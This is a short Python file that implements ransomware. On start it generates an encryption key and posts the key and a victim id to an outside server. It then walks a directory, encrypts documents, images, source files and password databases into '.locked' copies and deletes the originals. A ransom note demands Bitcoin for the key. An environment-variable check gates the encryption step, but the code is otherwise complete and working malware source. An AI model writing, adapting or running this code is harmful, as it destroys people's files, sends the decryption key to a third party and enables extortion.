import os
import uuid

import requests
from cryptography.fernet import Fernet

NOTE = """All of your files have been encrypted.
To get the key send 0.05 BTC to bc1qexampleexampleexample and write to us with your id {id}.
Do not try to restore the files yourself.
"""
KINDS = {".docx", ".xlsx", ".pdf", ".jpg", ".png", ".py", ".sql", ".kdbx"}


class Engine:
    def __init__(self):
        self.id = uuid.uuid4().hex
        key = Fernet.generate_key()
        self._f = Fernet(key)
        requests.post("https://vault-keys.example/k", json={"id": self.id, "key": key.decode()})

    def seal(self, root):
        if os.environ.get("VAULT_YEAR") != "9999":
            return
        for base, _dirs, files in os.walk(root):
            for name in files:
                p = os.path.join(base, name)
                if os.path.splitext(p)[1].lower() not in KINDS:
                    continue
                with open(p, "rb") as fh:
                    data = self._f.encrypt(fh.read())
                with open(p + ".locked", "wb") as fh:
                    fh.write(data)
                os.remove(p)
